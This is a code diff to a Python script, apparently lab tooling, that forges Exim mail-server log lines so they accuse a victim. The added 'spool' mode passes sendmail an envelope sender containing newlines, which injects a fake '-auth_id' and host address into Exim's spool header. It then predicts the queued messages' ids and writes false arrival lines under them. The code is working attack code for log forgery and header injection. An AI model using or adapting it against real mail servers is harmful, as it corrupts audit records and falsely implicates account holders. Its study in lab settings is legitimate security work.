@@ -8,6 +8,9 @@
 #   args  the same with a false " N args: ..." inside the name, so that every line, also the
 #         first and the last one, is one that Exim could have written
 #   from  an envelope sender with newlines (-f), on the arrival line of a queued message
+#   spool N queued messages whose sender goes on as if it were further lines of Exim's spool
+#         header, naming MAILBOX as the login; then false arrivals with these messages' ids,
+#         each of which is guessed from the time and the process (a few lines a message)
 # Lines are fresh: the time is now, the message ids are such as Exim makes.
 import argparse
 import os
@@ -33,12 +36,15 @@ class Forger:
     def __init__(self, victim, mailbox, claim):
         self.victim, self.mailbox, self.claim, self.made = victim, mailbox, claim, 0
         self.subject = ' T="pay now"'
+        self.ids = []
 
     def line(self):
         """One false line; arrivals by script and by login take turns."""
         self.made += 1
         now = int(time.time())
         mid = f"{base62(now, 6)}-{base62(7000 + self.made, 6)}-{base62(self.made % 3000, 2)}"
+        if self.ids:
+            mid = self.ids.pop()
         stamp = time.strftime("%Y-%m-%d %H:%M:%S", time.localtime(now))
         kind = self.claim if self.claim != "mixed" else ("local", "mailbox")[self.made % 2]
         if kind == "local":
@@ -92,13 +98,27 @@ def start_from(forger, lines, number):
     return n
 
 
+def start_spool(forger, number):
+    """Queue a message whose header file seems to name the victim's login; its possible ids
+    (Exim makes them of the second, the process and the 5 ms of its reception)."""
+    sender = (f'"x>\n{int(time.time())} 0\n-auth_id {forger.mailbox}\n'
+              f'-host_address [203.0.113.9]:40001\nz"@evil.example')
+    began = time.time()
+    with subprocess.Popen(["/usr/sbin/sendmail", "-odq", "-t", "-i", "-f", sender],
+                          stdin=subprocess.PIPE) as program:
+        program.communicate(labmail.letter("x@x.example", f"p{number}@ok3.example", "hello",
+                                           number).encode())
+    ticks = range(int(began * 200) - 1, int(time.time() * 200) + 2)
+    return [f"{base62(t // 200, 6)}-{base62(program.pid, 6)}-{base62(t % 200, 2)}" for t in ticks]
+
+
 def main():
     p = argparse.ArgumentParser()
     p.add_argument("account")
     p.add_argument("victim")
     p.add_argument("mailbox")
     p.add_argument("count", type=int)
-    p.add_argument("--way", choices=("name", "args", "from"), default="name")
+    p.add_argument("--way", choices=("name", "args", "from", "spool"), default="name")
     p.add_argument("--claim", choices=("local", "mailbox", "mixed"), default="mixed")
     p.add_argument("--per-start", type=int, default=10, help="false lines a program start")
     p.add_argument("--send", action="store_true", help="really queue a message at each start")
@@ -108,12 +128,17 @@ def main():
     if a.way == "from":
         forger.subject = ""  # a quoted local part can't hold a quote
     left, starts = a.count, 0
+    if a.way == "spool":
+        for i in range(a.count):
+            forger.ids += start_spool(forger, i)
+        left, forger.claim = len(forger.ids), "mailbox"
+        a.count = left
     while left > 0:
         n = min(left, a.per_start)
         if a.way == "from":
             n = start_from(forger, n, starts)
         else:
-            start_in(forger.name_parts(n) if a.way == "name" else forger.args_parts(n), a.send)
+            start_in(forger.args_parts(n) if a.way == "args" else forger.name_parts(n), a.send)
         left -= n
         starts += 1
     labmail.told(lines=a.count, starts=starts)
